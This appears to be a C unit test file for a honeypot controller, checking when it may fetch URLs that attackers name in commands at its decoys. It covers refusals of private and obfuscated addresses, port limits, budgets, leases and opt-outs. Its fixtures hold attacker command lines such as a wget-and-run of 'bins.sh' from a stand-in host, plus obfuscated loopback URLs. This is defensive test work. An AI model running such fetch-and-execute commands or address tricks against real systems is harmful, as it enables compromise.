/* Visits: what an event that names a page makes control decide, and each connection of it. */
#include "control/room_inner.h"
#include "tests/unit/control/case.h"
#include <stdlib.h>
#include <unistd.h>

#define SECOND 1000000u
#define DAY (86400ull * SECOND)

static struct config config;
static struct control *control;
static struct event in;
static char directory[64];
static struct told {
	char decision[16], reason[24], basis[16], url[128];
	struct address src;
	struct event_id cause, lease;
	uint64_t count;
} told[512];
static size_t told_count;
static struct address revoked[8];
static size_t revoked_count;

static int publish(void *arg, struct event *e)
{
	(void)arg;
	CHECK(told_count < sizeof told / sizeof *told);
	struct told *t = &told[told_count++];
	*t = (struct told){.count = event_number(e, FIELD_COUNT, 1)};
	bytes_copy_text(event_bytes(e, FIELD_DECISION), t->decision, sizeof t->decision);
	bytes_copy_text(event_bytes(e, FIELD_REASON), t->reason, sizeof t->reason);
	bytes_copy_text(event_bytes(e, FIELD_BASIS), t->basis, sizeof t->basis);
	bytes_copy_text(event_bytes(e, FIELD_PAGE_URL), t->url, sizeof t->url);
	event_address(e, FIELD_SRC, &t->src);
	event_id_of(e, FIELD_CAUSE, &t->cause);
	event_id_of(e, FIELD_LEASE, &t->lease);
	return 0;
}

static void revoke_look(void *arg, const struct address *a)
{
	(void)arg, (void)a;
}

static void revoke_visits(void *arg, const struct address *a)
{
	(void)arg;
	if (revoked_count < sizeof revoked / sizeof *revoked)
		revoked[revoked_count++] = *a;
}

static void open_room(void)
{
	struct fault fault = {{0}};
	told_count = revoked_count = 0;
	control = calloc(1, sizeof *control);
	CHECK(control != NULL);
	control->publish = publish;
	control->revoke = revoke_look;
	control->revoke_visits = revoke_visits;
	CHECK(settings_read(&config, &control->settings, &fault) == 0);
	const int bad = control_open(control, directory, NOW, &fault);
	CHECK_SAY(!bad, "%s", fault.text);
}

static void close_room(void)
{
	control_close(control);
	settings_done(&control->settings);
	free(control);
}

static void begin(const char *yaml)
{
	snprintf(directory, sizeof directory, "/tmp/kansoku-control-XXXXXX");
	CHECK(mkdtemp(directory) != NULL);
	config_of("", yaml, &config);
	open_room();
}

static void end(void)
{
	static const char *const files[] = {"looks", "opted-out", "opt-out-key"};
	char file[96];
	close_room();
	config_done(&config);
	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
		snprintf(file, sizeof file, "%s/%s", directory, files[i]);
		unlink(file);
	}
	CHECK(rmdir(directory) == 0);
}

#define BEGIN(visits)                                                                                  \
	"operator: {contact: abuse@example.org}\n"                                                     \
	"control: {targets_max: 5000, silent_decoys: 0}\n"                                             \
	"active: {scope: [0.0.0.0/0, '2000::/3'], hold_out: 0, visits: {" visits "}}\n"                \
	"passive: {decoys: [9.0.0.0/24]}\n"                                                            \
	"rules: [{on: command.sent, do: visit, delay: 0s, name: named}, {on: indicator.found, do: visit, delay: 0s}]\n"

/* A command at a decoy of ours, in a session over TCP. */
static void command_with(const char *line, uint64_t now_us)
{
	static uint64_t count;
	struct address source = address_v4(0x0b010203), decoy = address_v4(0x09000001);
	struct event_id session = {{1, 2, 3}};
	event_begin(&in, EVENT_COMMAND_SENT);
	in.time_us = now_us;
	struct writer w = writer_of(in.id.b, sizeof in.id.b);
	write_u64(&w, now_us);
	write_u64(&w, ++count);
	event_set_text(&in, FIELD_PROCESS, "passive");
	event_set_text(&in, FIELD_PROTO, "tcp");
	event_set_address(&in, FIELD_SRC, &source);
	event_set_address(&in, FIELD_DST, &decoy);
	event_set_id(&in, FIELD_SESSION, &session);
	event_set_bytes(&in, FIELD_COMMAND_LINE, bytes_of_text(line));
	control_event(control, &in, 0, now_us);
}

static const struct told *last(void)
{
	static const struct told none;
	return told_count ? &told[told_count - 1] : &none;
}

static enum reason connect_to(const struct event_id *lease, const char *address, uint16_t port)
{
	struct address a = address_of(address), from;
	return control_visit_connect(control, lease, &a, port, BYTES("host.example"), NOW + SECOND, &from);
}

TEST(visit_is_allowed_by_its_page_and_handed_over_once)
{
	begin(BEGIN("per_host: 100"));
	command_with("cd /tmp; wget http://Evil.example/bins.sh; sh bins.sh", NOW);
	CHECK(told_count == 1 && !strcmp(last()->decision, "allowed") && !strcmp(last()->url, "http://evil.example/bins.sh"));
	CHECK(!strcmp(last()->basis, "handshake") && id_equal(&last()->cause, &in.id));
	struct errand_waiting *waiting = errands_next(&control->errands, ACTION_VISIT, NOW);
	struct errand errand;
	CHECK(waiting != NULL && errand_read(errand_payload(waiting), &errand));
	CHECK(id_equal(&errand.cause, &last()->lease) && !strcmp(errand.rule, "named"));
	CHECK(frame_decode(errand.frame, NULL, &in) == 0);
	CHECK(bytes_equal_text(event_bytes(&in, FIELD_PAGE_URL), "http://evil.example/bins.sh"));
	/* The same page is not visited again that day; a command without a page is nothing. */
	command_with("wget http://evil.example/bins.sh", NOW + SECOND);
	CHECK(told_count == 1 && control->bulk[REASON_VISITED] == 1);
	command_with("ls -la", NOW + SECOND);
	CHECK(told_count == 1);
	command_with("wget http://evil.example/bins.sh", NOW + DAY);
	CHECK(told_count == 2 && !strcmp(last()->decision, "allowed"));
	end();
}

TEST(visit_of_an_address_is_refused_as_a_look_would_be)
{
	static const struct {
		const char *command, *reason;
	} cases[] = {
		{"wget http://10.0.0.1/x", "special"},
		{"wget http://0x7f.1/x", "special"},
		{"wget http://017700000001/x", "special"},
		{"wget http://[::1]/x", "special"},
		{"wget http://[::ffff:192.168.1.1]/x", "special"},
		{"wget http://[2002:a00:1::1]/x", "special"},
		{"wget http://[64:ff9b::a00:1]/x", "special"},
		{"wget http://9.0.0.7/x", "own"},
		{"wget http://evil.example:25/x", "port"},
		{"wget http://evil.example:6379/x", "port"},
		{"wget http://999.1.1.1/x", "no-page"},
	};
	begin(BEGIN("per_host: 100"));
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		command_with(cases[i].command, NOW + i);
		CHECK_SAY(!strcmp(last()->decision, "refused") && !strcmp(last()->reason, cases[i].reason), "%s: %s",
			  cases[i].command, last()->reason);
	}
	CHECK(errands_next(&control->errands, ACTION_VISIT, NOW) == NULL);
	end();
}

TEST(visit_asks_for_each_connection)
{
	begin(BEGIN("per_host: 100, connections: 9"));
	command_with("wget http://evil.example/x", NOW);
	const struct event_id lease = last()->lease, other = {{9}};
	CHECK(connect_to(&lease, "11.1.1.1", 80) == REASON_OK);
	CHECK(connect_to(&lease, "2a00:1::1", 443) == REASON_OK);
	CHECK(told_count == 1);
	CHECK(connect_to(&lease, "10.0.0.1", 80) == REASON_SPECIAL);
	CHECK(!strcmp(last()->reason, "special") && id_equal(&last()->cause, &lease) && told_count == 2);
	CHECK(connect_to(&lease, "10.0.0.1", 80) == REASON_SPECIAL && told_count == 2); /* told once */
	CHECK(connect_to(&lease, "9.0.0.1", 80) == REASON_OWN);
	CHECK(connect_to(&lease, "11.1.1.1", 22) == REASON_PORT);
	CHECK(connect_to(&lease, "::ffff:0:0", 80) == REASON_SPECIAL);
	CHECK(connect_to(&other, "11.1.1.1", 80) == REASON_NO_LEASE);
	CHECK(connect_to(&lease, "11.1.1.1", 80) == REASON_OK);
	CHECK(connect_to(&lease, "11.1.1.1", 80) == REASON_OK);
	CHECK(connect_to(&lease, "11.1.1.1", 80) == REASON_NO_LEASE); /* the tenth */
	control_visit_done(control, &lease);
	CHECK(control->visits.count == 0);
	end();
}

TEST(visit_lease_ends_with_its_time)
{
	begin(BEGIN("lease: 1m"));
	command_with("wget http://evil.example/x", NOW);
	const struct event_id lease = last()->lease;
	control_visits_tick(control, NOW + 59 * SECOND);
	CHECK(control->visits.count == 1);
	control_visits_tick(control, NOW + 60 * SECOND);
	CHECK(control->visits.count == 0 && connect_to(&lease, "11.1.1.1", 80) == REASON_NO_LEASE);
	end();
}

TEST(visit_budgets_hold_and_survive_a_restart)
{
	char command[64];
	begin(BEGIN("per_host: 2, per_day: 4, per_address: 2"));
	for (int i = 0; i < 3; i++) {
		snprintf(command, sizeof command, "wget http://evil.example/%d", i);
		command_with(command, NOW);
		CHECK(!strcmp(last()->decision, i < 2 ? "allowed" : "refused"));
	}
	CHECK(!strcmp(last()->reason, "visit-budget"));
	CHECK(connect_to(&told[0].lease, "11.1.1.1", 80) == REASON_OK && connect_to(&told[1].lease, "11.1.1.1", 80) == REASON_OK);
	close_room();
	open_room();
	command_with("wget http://evil.example/3", NOW);
	CHECK(!strcmp(last()->reason, "visit-budget"));
	/* Many names, one victim: its address has had its visits. */
	command_with("wget http://a.example/", NOW);
	CHECK(!strcmp(last()->decision, "allowed"));
	CHECK(connect_to(&last()->lease, "11.1.1.1", 80) == REASON_VISIT_BUDGET);
	CHECK(connect_to(&told[1].lease, "11.1.1.2", 80) == REASON_OK);
	command_with("wget http://b.example/", NOW);
	CHECK(!strcmp(last()->decision, "allowed"));
	command_with("wget http://c.example/", NOW);
	CHECK(!strcmp(last()->reason, "visit-budget"));
	command_with("wget http://c.example/", NOW + DAY);
	CHECK(!strcmp(last()->decision, "allowed"));
	end();
}

TEST(visit_ends_where_somebody_opts_out)
{
	begin(BEGIN("per_host: 100"));
	command_with("wget http://evil.example/x", NOW);
	const struct event_id lease = last()->lease;
	struct prefix gone;
	CHECK(connect_to(&lease, "11.1.1.1", 80) == REASON_OK && connect_to(&lease, "11.1.2.1", 80) == REASON_OK);
	CHECK(prefix_parse(BYTES("11.1.1.0/24"), &gone) && prefix_set_add(&control->optout.set, &gone) == 0);
	prefix_set_seal(&control->optout.set);
	control_opt_outs_changed(control, NOW + SECOND);
	CHECK(revoked_count == 1 && revoked[0].b[15] == 1 && revoked[0].b[14] == 1);
	CHECK(connect_to(&lease, "11.1.1.1", 80) == REASON_OPTED_OUT);
	end();
}

static void indicator(const char *process, const char *type, const char *value)
{
	event_begin(&in, EVENT_INDICATOR_FOUND);
	in.time_us = NOW;
	in.id = (struct event_id){{7, 7}};
	event_set_text(&in, FIELD_PROCESS, process);
	event_set_text(&in, FIELD_FILE_SHA256, "00");
	event_set_text(&in, FIELD_INDICATOR_TYPE, type);
	event_set_text(&in, FIELD_INDICATOR_ROLE, "download");
	event_set_bytes(&in, FIELD_INDICATOR_VALUE, bytes_of_text(value));
	control_event(control, &in, 0, NOW);
}

TEST(visit_by_an_indicator_needs_a_sample_of_ours)
{
	begin(BEGIN("per_host: 100"));
	indicator("lab", "url", "https://evil.example/gate");
	CHECK(!strcmp(last()->decision, "allowed") && !strcmp(last()->basis, "sample"));
	indicator("passive", "url", "https://evil.example/forged");
	CHECK(!strcmp(last()->decision, "refused") && !strcmp(last()->reason, "no-basis"));
	const size_t before = told_count;
	indicator("lab", "domain", "evil.example");
	CHECK(told_count == before);
	end();
}

TEST(visit_by_hand_waits_for_nobody_and_may_be_tried_dry)
{
	struct visit_answer answer;
	begin(BEGIN("per_host: 1"));
	control_visit_ask(control, BYTES("http://evil.example/"), true, true, NOW, &answer);
	CHECK(!strcmp(answer.decision, "allowed") && told_count == 0 && control->visits.count == 0);
	control_visit_ask(control, BYTES("http://evil.example/"), true, false, NOW, &answer);
	CHECK(!strcmp(answer.decision, "allowed") && told_count == 1 && !strcmp(last()->basis, "operator"));
	CHECK(errands_next(&control->errands, ACTION_VISIT, NOW) == NULL); /* who asked visits it */
	CHECK(connect_to(&answer.id, "11.1.1.1", 80) == REASON_OK);
	control_visit_ask(control, BYTES("http://evil.example/other"), false, false, NOW, &answer);
	CHECK(answer.reason == REASON_VISIT_BUDGET);
	control_visit_ask(control, BYTES("http://b.example/"), false, false, NOW, &answer);
	CHECK(errands_next(&control->errands, ACTION_VISIT, NOW) != NULL);
	end();
}

TEST(visit_is_permitted_from_the_configuration_alone)
{
	struct visit_permit *permit;
	struct fault fault = {{0}};
	struct address from, good = address_of("11.1.1.1"), private = address_of("10.0.0.1"), own = address_of("9.0.0.9");
	const char *why;
	config_of("passive: {decoys: [9.0.0.0/24]}\n", "operator: {contact: abuse@example.org}\nactive: {scope: [0.0.0.0/0], addresses: [11.9.9.9]}\n", &config);
	CHECK_SAY(control_visit_open(&permit, &config, &fault) == 0, "%s", fault.text);
	CHECK(control_visit_permits(permit, &good, 80, &from, &why) && address_to_v4(&from) == 0x0b090909);
	CHECK(!control_visit_permits(permit, &private, 80, &from, &why) && !strcmp(why, "special"));
	CHECK(!control_visit_permits(permit, &good, 25, &from, &why) && !strcmp(why, "port"));
	CHECK(!control_visit_permits(permit, &own, 80, &from, &why) && !strcmp(why, "own"));
	control_visit_close(permit);
	config_done(&config);
	config_of("", "active: {scope: [0.0.0.0/0]}\n", &config);
	CHECK(control_visit_open(&permit, &config, &fault) == ERR_DENIED && !strncmp(fault.text, "no-contact", 10));
	config_done(&config);
}

TEST(egress_is_permitted_where_the_policy_would_let_us_look)
{
	char path[] = "/tmp/kansoku-egress-XXXXXX", active[256];
	struct fault fault = {{0}};
	const struct { const char *target, *why; } cases[] = {
		{"11.1.1.1", NULL}, {"11.2.1.1", "opted-out"}, {"10.0.0.1", "special"}, {"9.0.0.9", "own"}, {"12.1.1.1", "scope"}};
	const int fd = mkstemp(path);
	CHECK(fd >= 0 && write(fd, "11.2.0.0/16\n", 12) == 12 && close(fd) == 0);
	snprintf(active, sizeof active, "operator: {contact: abuse@example.org}\nactive: {scope: [11.0.0.0/8, 9.0.0.0/8], opt_out: %s}\n", path);
	config_of("passive: {decoys: [9.0.0.0/24]}\n", active, &config);
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		const struct address target = address_of(cases[i].target);
		const int bad = control_egress_check(&config, &target, &fault);
		CHECK_SAY(cases[i].why ? bad == ERR_DENIED && !strncmp(fault.text, cases[i].why, strlen(cases[i].why)) : bad == 0,
			  "%s: %s", cases[i].target, fault.text);
	}
	config_done(&config);
	unlink(path);
}
